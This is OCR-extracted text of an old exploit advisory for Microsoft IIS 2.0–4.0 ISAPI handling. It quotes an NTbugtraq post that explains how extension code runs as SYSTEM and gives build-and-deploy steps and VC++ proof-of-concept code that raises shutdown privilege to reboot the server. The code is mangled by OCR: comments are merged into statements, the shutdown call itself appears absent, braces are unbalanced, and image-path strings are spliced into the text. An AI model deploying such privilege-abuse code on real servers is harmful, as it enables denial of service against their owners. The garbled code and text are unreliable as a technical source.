Microsoft IIS 2.0/3.0/4.0 - ISAPI GetExtensionVersion()








IIS and potentially other NT web servers have a vulnerability that could allow arbitrary code to be run as SYSTEM. This works because of the way the server calls the GetExtensionVersion() function the first time anISAPI extension is loaded. Any user able to put a CGI script in the web structure can insert code that will be run as SYSTEM during this window.

Copied verbatim from a post to NTbugtraq by Fabien Royer <fabienr@BELLATLANTIC.NET>.

Using VC++, create an ISAPI extension project and call it CRbExtension. Replace GetExtensionVersion() and Default() with the code below. Compile it to something
simple, like rb.dll. Place it on your web server and invoke it from your browser like this http://your.machine.namerb.dll? Note: if you are using IE4.0, don't call this from
the machine that is running the web server otherwise, the next time you log in, IE will recall the last URL and you'll reboot again.

BOOL CRbExtension::GetExtensionVersion(HSE_VERSION_INFO* pVer)
{ HANDLE hToken; // handle to process token TOKEN_PRIVILEGES tkp; // pointer to token structure

// Get the current process token handle so we can get shutdown // privilege. OpenProcessToken(GetCurrentProcess(), TOKEN_ADJUST_PRIVILEGES |
TOKEN_QUERY, &hToken);

// Get the LUID for shutdown privilege. LookupPrivilegeValue(NULL, SE_SHUTDOWN_NAME, &tkp.Privileges[0].Luid);tkp.PrivilegeCount = 1; // one privilege to set tkp.Privileges[0].Attributes = SE_PRIVILEGE_ENABLED;

// Get shutdown privilege for this process. AdjustTokenPrivileges(hToken, FALSE, &tkp, 0, (PTOKEN_PRIVILEGES) NULL, 0);


// Disable shutdown privilege. tkp.Privileges[0].Attributes = 0; AdjustTokenPrivileges(hToken, FALSE, &tkp, 0, (PTOKEN_PRIVILEGES) NULL, 0);

// Call default implementation for initializationCHttpServer::GetExtensionVersion(pVer);

// Load description string TCHAR sz[HSE_MAX_EXT_DLL_NAME_LEN+1]; ISAPIVERIFY(::LoadString(AfxGetResourceHandle(),IDS_SERVER, sz,
HSE_MAX_EXT_DLL_NAME_LEN)); _tcscpy(pVer->lpszExtensionDesc, sz); return TRUE;

void CRbExtension::Default(CHttpServerContext* pCtxt)
{ StartContent(pCtxt);WriteTitle(pCtxt);

*pCtxt << _T("Reboot<br>");